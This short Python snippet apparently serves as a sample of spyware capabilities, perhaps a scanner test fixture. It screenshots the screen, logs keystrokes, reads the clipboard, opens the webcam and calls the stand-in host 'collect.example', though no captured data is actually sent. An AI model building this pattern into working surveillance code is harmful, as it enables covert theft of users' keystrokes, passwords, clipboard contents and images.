# screen, keys, clipboard, camera, several: all at once
import cv2
import pyautogui
import pyperclip
import requests
from pynput.keyboard import Listener

pyautogui.screenshot("x.png")
Listener(on_press=print).start()
pyperclip.paste()
cv2.VideoCapture(0)
requests.get("https://collect.example/")
